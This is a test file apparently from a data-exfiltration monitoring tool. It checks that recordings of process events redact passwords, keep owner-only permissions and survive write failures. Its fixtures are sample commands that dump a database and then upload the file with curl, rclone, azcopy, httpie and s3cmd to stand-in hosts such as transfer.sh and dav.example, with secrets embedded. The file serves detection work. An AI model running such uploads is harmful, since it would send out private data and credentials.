import { createHash } from 'node:crypto';
import {
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ManifestCheck } from '../../agent/capture-manifest.ts';
import { Recording, type RecordingOptions } from '../../agent/recording.ts';
import { Redactor } from '../../agent/redaction/redactor.ts';
import packageJson from '../../package.json' with { type: 'json' };
import { PROJECT } from '../support/command.ts';
import { demoStory } from '../support/demo-story.ts';
import { Desk } from '../support/desk.ts';
import { MAC_PROGRAMS } from '../support/mac-programs.ts';
import { replayed } from '../support/replay.ts';
import { PROGRAMS, type Program, type Story } from '../support/story.ts';

const folder = mkdtempSync(join(tmpdir(), 'spillwatch-recording-'));
afterAll(() => rmSync(folder, { recursive: true }));

let count = 0;
const place = (): string => join(folder, `capture-${(count += 1)}.ndjson`);
const clock = (): number => Date.parse('2026-11-02T09:00:00Z') * 1000;
const hashing = (): Redactor => new Redactor({ kind: 'hash', key: new Uint8Array(32).fill(5) });

interface Recorded {
  readonly text: string;
  /** Without the manifest. */
  readonly lines: readonly string[];
  readonly manifest: unknown;
  readonly misfit: string | null;
}

function recorded(lines: readonly string[], options: Partial<RecordingOptions> = {}): Recorded {
  const path = place();
  const recording = new Recording(path, { redactor: hashing(), clock, ...options });
  for (const line of lines) recording.line(line);
  recording.close();
  return read(path);
}

function read(path: string): Recorded {
  const bytes = readFileSync(path);
  const check = new ManifestCheck();
  check.push(bytes);
  const all = bytes.toString('utf8').split('\n').slice(0, -1);
  return {
    text: bytes.toString('utf8'),
    lines: all.slice(0, -1),
    manifest: JSON.parse(all.at(-1) ?? 'null') as unknown,
    misfit: check.end(),
  };
}

/** A dump with a password on its command line, and a command of the same user afterwards. */
function storyOf(program: Program, ...args: readonly string[]): Story {
  const desk = new Desk();
  const { story, shell } = desk;
  const dump = story.run(shell, {
    ...MAC_PROGRAMS.mysqldump,
    args: ['mysqldump', '-umaria', '-pS3cretWord', '--result-file=Documents/a.sql', 'shop'],
    cwd: desk.home,
  });
  story.write(dump, desk.at('Documents/a.sql')).wait(30);
  story.run(shell, { ...program, args, cwd: desk.home });
  const row = { pid: 9000, ppid: 1, uid: 503, name: 'psql', path: '/opt/homebrew/bin/psql' };
  story.envelope({
    source: 'processes',
    processes: [{ ...row, cmd: '/opt/homebrew/bin/psql password=S3cretWord host=h' }],
  });
  return story;
}

const FILE = 'Documents/a.sql';

/** Uploads with secrets in all places that the tools have for them, and where they go. */
const UPLOADS: readonly (readonly [destination: string, Program, args: readonly string[]])[] = [
  [
    'dav.example',
    PROGRAMS.curl,
    ['curl', '-su', 'maria:S3cretWord', '-T', FILE, 'https://dav.example/'],
  ],
  ['dav.example', PROGRAMS.curl, ['curl', '-T', FILE, 'https://maria:S3cretWord@dav.example/in']],
  ['dav.example', PROGRAMS.curl, ['curl', '-T', FILE, 'maria:S3cretWord@dav.example/in']],
  [
    'dav.example',
    PROGRAMS.curl,
    ['curl', '-b', 'id=S3cretWord', '-T', FILE, 'https://dav.example/'],
  ],
  [
    'transfer.sh',
    PROGRAMS.curl,
    ['curl', '-F', 'token=S3cretWord', '-F', `f=@${FILE}`, 'https://transfer.sh/'],
  ],
  [
    'transfer.sh',
    PROGRAMS.curl,
    ['curl', '-H', 'X-Token: S3cretWord', '-F', `token=@${FILE}`, 'transfer.sh'],
  ],
  [
    'h.example',
    PROGRAMS.curl,
    ['curl', '--data-binary', `@${FILE}`, 'https://h.example/x?sig=S3cretWord'],
  ],
  [':webdav:in', PROGRAMS.rclone, ['rclone', 'copy', FILE, ':webdav,pass=S3cretWord,user=u:in']],
  [':webdav:in', PROGRAMS.rclone, ['rclone', 'copy', FILE, ':webdav,pass=S3cretWord:in']],
  [
    'gdrive:in',
    PROGRAMS.rclone,
    ['rclone', 'copy', '--crypt-password', 'S3cretWord', FILE, 'gdrive:in'],
  ],
  [
    'x.blob.core.windows.net',
    MAC_PROGRAMS.azcopy,
    ['azcopy', 'cp', FILE, 'https://x.blob.core.windows.net/c?sig=S3cretWord'],
  ],
  [
    'h.example',
    { path: '/opt/homebrew/bin/http' },
    ['http', '-a', 'u:S3cretWord', 'h.example', `f@${FILE}`],
  ],
  [
    'h.example',
    { path: '/opt/homebrew/bin/http' },
    ['http', 'h.example', 'X-Api-Key:S3cretWord', `token@${FILE}`],
  ],
  [
    's3://lot/a',
    { path: '/opt/homebrew/bin/s3cmd' },
    ['s3cmd', 'put', '--secret_key', 'S3cretWord', FILE, 's3://lot/a'],
  ],
];

const isOther = (line: string): boolean => !/"exec"|"processes"/.test(line);

describe('a recording', () => {
  it('is a file for its owner alone, and its last line says what it holds', () => {
    const path = place();
    const recording = new Recording(path, { redactor: hashing(), clock });
    recording.line('{"source":"host"}');
    expect(recording.close()).toEqual(read(path).manifest);
    expect(statSync(path).mode & 0o777).toBe(0o600);
    const { text, misfit } = read(path);
    expect(misfit).toBeNull();
    expect(Object.entries(JSON.parse(text.split('\n')[1] ?? '') as object)).toEqual([
      ['source', 'manifest'],
      ['time', '2026-11-02T09:00:00.000Z'],
      ['version', packageJson.version],
      ['redaction', 'hash'],
      ['lines', 1],
      ['sha256', createHash('sha256').update('{"source":"host"}\n').digest('hex')],
      ['complete', true],
      ['lost', {}],
    ]);
  });

  it('never writes over a file and never follows a link', () => {
    const there = place();
    writeFileSync(there, 'x');
    const link = place();
    symlinkSync(join(folder, 'elsewhere'), link);
    for (const path of [there, link])
      expect(() => new Recording(path, { redactor: null, clock })).toThrow(/EEXIST/);
    expect(readFileSync(there, 'utf8')).toBe('x');
  });

  it('of the demo gives the same findings as what it was made of, and holds no password', () => {
    const lines = readFileSync(join(PROJECT, 'agent/commands/demo/capture.ndjson'), 'utf8')
      .trimEnd()
      .split('\n');
    const { text, misfit } = recorded(lines);
    expect(misfit).toBeNull();
    expect(text).not.toContain('hunter2');
    const raw = replayed(demoStory());
    expect(raw.findings.length).toBeGreaterThan(3);
    expect(replayed(text).findings).toEqual(raw.findings);
  });

  it.each(UPLOADS)(
    'gives the finding with the destination %s behind secrets: %j %j',
    (destination, program, args) => {
      const story = storyOf(program, ...args);
      const { text } = recorded(story.lines());
      expect(story.text()).toContain('S3cretWord');
      expect(text).not.toContain('S3cretWord');
      const raw = replayed(story);
      expect(raw.last[0]).toMatchObject({ stage: 'upload', destination });
      expect(raw.last[0]?.files).toContain('/Users/lena/Documents/a.sql');
      expect(replayed(text).findings).toEqual(raw.findings);
    },
  );

  it('gives the finding of an archive with a password', () => {
    const desk = new Desk();
    const { story, shell } = desk;
    desk.dump(FILE);
    const args = ['zip', '-qP', 'S3cretWord', 'Documents/a.zip', FILE];
    const zip = story.run(shell, { ...PROGRAMS.zip, args, cwd: desk.home });
    story.write(zip, desk.at('Documents/a.zip')).exit(zip);
    desk.mv('Documents/a.zip', 'Dropbox/a.zip');
    const { text } = recorded(story.lines());
    expect(text).not.toContain('S3cretWord');
    const raw = replayed(story);
    expect(raw.last[0]?.files).toContain('/Users/lena/Documents/a.zip');
    expect(replayed(text).findings).toEqual(raw.findings);
  });

  it('keeps equal secrets comparable, and every byte of other lines', () => {
    const story = storyOf(PROGRAMS.curl, 'curl', '-u', 'maria:S3cretWord', 'https://h/');
    const { lines, text } = recorded(story.lines());
    const placeholders = new Set(text.match(/\[REDACTED:[0-9a-f]{12}\]/g));
    // The word of the story, and the password in the environment of every program.
    expect(placeholders.size).toBe(2);
    expect(lines.filter(isOther)).toEqual(story.lines().filter(isOther));
  });

  it('has a manifest that a replay skips under its own reason', () => {
    const { text } = recorded(['{"source":"dns"}']);
    const { skipped } = replayed(text).ledger.total();
    expect([...skipped]).toEqual([
      ['unknown-source', 1],
      ['manifest', 1],
    ]);
  });

  it('without redaction has every line as it is', () => {
    const story = storyOf(PROGRAMS.curl, 'curl', '-u', 'maria:S3cretWord', 'https://h/');
    const { lines, manifest } = recorded(story.lines(), { redactor: null });
    expect(lines).toEqual(story.lines());
    expect(manifest).toMatchObject({ redaction: 'raw', complete: true });
  });

  it('leaves out a line in which secrets cannot be told, and is not complete', () => {
    const cut = '{"event":{"exec":{"args":["mysql","-pS3cretWord';
    const { text, manifest } = recorded(['{"source":"host"}', cut]);
    expect(text).not.toContain('S3cretWord');
    expect(manifest).toMatchObject({ lines: 1, complete: false, lost: { 'unreadable-line': 1 } });
  });

  it('says what was lost before it came', () => {
    const path = place();
    const recording = new Recording(path, { redactor: null, clock });
    recording.lose('line-too-long');
    recording.lose('not-reported', 4);
    recording.close();
    expect(read(path).manifest).toMatchObject({
      complete: false,
      lost: { 'line-too-long': 1, 'not-reported': 4 },
    });
  });

  it.each([
    ['ENOSPC', 'disk-full'],
    ['EIO', 'write-failed'],
  ])(
    'that cannot be written on (%s) ends at whole lines with a manifest that fits',
    (code, reason) => {
      let room = 150_000;
      const write = (file: number, bytes: Buffer, position: number): number => {
        const part = bytes.subarray(0, room);
        if (part.length === 0) throw Object.assign(new Error(code), { code });
        room -= part.length;
        return writeSync(file, part, 0, part.length, position);
      };
      const line = `{"source":"x","text":"${'y'.repeat(1000)}"}`;
      const path = place();
      const failing = new Recording(path, {
        redactor: null,
        clock,
        write: (file, bytes, position) => {
          // What was cut off makes room for the manifest.
          if (bytes.toString('utf8', 0, 20).includes('manifest'))
            return writeSync(file, bytes, 0, bytes.length, position);
          return write(file, bytes, position);
        },
      });
      for (let index = 0; index < 400; index += 1) failing.line(line);
      expect(failing.hasFailed).toBe(true);
      failing.close();
      const { lines, manifest, misfit } = read(path);
      expect(misfit).toBeNull();
      expect(lines.length).toBeGreaterThan(50);
      expect(lines.every((text) => text === line)).toBe(true);
      expect(manifest).toMatchObject({
        lines: lines.length,
        complete: false,
        lost: { [reason]: 400 - lines.length },
      });
    },
  );

  it('without room for the manifest either ends at whole lines', () => {
    const path = place();
    const recording = new Recording(path, {
      redactor: null,
      clock,
      write: () => {
        throw Object.assign(new Error('ENOSPC'), { code: 'ENOSPC' });
      },
    });
    recording.line('{}');
    expect(recording.close()).toBeNull();
    expect(readFileSync(path, 'utf8')).toBe('');
  });

  it('takes nothing any more after it was closed', () => {
    const path = place();
    const recording = new Recording(path, { redactor: null, clock });
    recording.close();
    const before = readFileSync(path, 'utf8');
    for (let index = 0; index < 100; index += 1) recording.line(`{"x":"${'y'.repeat(1000)}"}`);
    expect(readFileSync(path, 'utf8')).toBe(before);
  });
});
